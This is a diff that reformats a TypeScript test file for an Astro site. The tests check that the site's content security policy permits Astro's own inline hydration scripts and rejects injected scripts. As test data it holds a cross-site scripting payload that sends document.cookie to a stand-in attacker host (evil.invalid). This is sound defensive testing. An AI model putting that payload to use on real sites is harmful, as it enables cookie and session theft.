@@ -16,7 +16,13 @@ const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script
 const inlineScripts = (html: string) => [...html.matchAll(/<script(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]!);
 
 /** script-src sources of a policy. */
-const scriptSources = (policy: string) => policy.split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src '))!.split(/\s+/).slice(1);
+const scriptSources = (policy: string) =>
+  policy
+    .split(';')
+    .map((d) => d.trim())
+    .find((d) => d.startsWith('script-src '))!
+    .split(/\s+/)
+    .slice(1);
 
 const INJECTED = 'fetch("https://evil.invalid/?c="+document.cookie)';
 
@@ -25,9 +31,17 @@ let container: AstroContainer;
 /** A page as Astro renders it: one island per given directive. */
 async function renderPage(directives: Array<'load' | 'visible' | 'idle'>): Promise<string> {
   const Island = () => null;
-  const Page = createComponent(async (result: any) => render`<main>${directives.map((d, i) => renderComponent(result, `Island${i}`, Island, {
-    [`client:${d}`]: true, 'client:component-hydration': d, 'client:component-path': `/src/components/Island${i}.tsx`, 'client:component-export': 'default',
-  }))}</main>`);
+  const Page = createComponent(
+    async (result: any) =>
+      render`<main>${directives.map((d, i) =>
+        renderComponent(result, `Island${i}`, Island, {
+          [`client:${d}`]: true,
+          'client:component-hydration': d,
+          'client:component-path': `/src/components/Island${i}.tsx`,
+          'client:component-export': 'default',
+        }),
+      )}</main>`,
+  );
   return container.renderToString(Page);
 }
 
@@ -41,7 +55,7 @@ beforeAll(async () => {
 });
 
 describe('content security policy for HTML pages', () => {
-  it("allows every inline script Astro writes to hydrate islands (astro-island runtime and each directive)", async () => {
+  it('allows every inline script Astro writes to hydrate islands (astro-island runtime and each directive)', async () => {
     const html = await renderPage(['load', 'visible', 'idle']);
     const scripts = inlineScripts(html);
     // The island runtime plus one script per directive.
@@ -54,7 +68,10 @@ describe('content security policy for HTML pages', () => {
   it.each([
     ['a plain injected script', `<script>${INJECTED}</script>`],
     ['an injected module script', `<script type="module">${INJECTED}</script>`],
-    ["Astro's load directive with one character changed", '<script>(()=>{var e=async t=>{await(await t())()};(self.Astro||(self.Astro={})).load=e;window.dispatchEvent(new Event("astro:loaded"));})();</script>'],
+    [
+      "Astro's load directive with one character changed",
+      '<script>(()=>{var e=async t=>{await(await t())()};(self.Astro||(self.Astro={})).load=e;window.dispatchEvent(new Event("astro:loaded"));})();</script>',
+    ],
   ])('does not allow %s, even when it is in the page', async (_name, injected) => {
     const page = (await renderPage(['load'])).replace('</main>', `</main>${injected}`);
     const body = inlineScripts(injected)[0]!;
@@ -79,7 +96,9 @@ describe('content security policy for HTML pages', () => {
 describe('the build hash file (scripts/csp-hashes.ts)', () => {
   it('reads the hash sources it lists', () => {
     const hash = hashOf('document.getElementById("print-sheet")');
-    expect(parseBuildHashes(JSON.stringify({ astroVersion: '5.18.2', scripts: [{ source: 'inlined:src/pages/reports/run-sheet.astro', hash }] }))).toEqual([hash]);
+    expect(parseBuildHashes(JSON.stringify({ astroVersion: '5.18.2', scripts: [{ source: 'inlined:src/pages/reports/run-sheet.astro', hash }] }))).toEqual([
+      hash,
+    ]);
   });
 
   it.each([
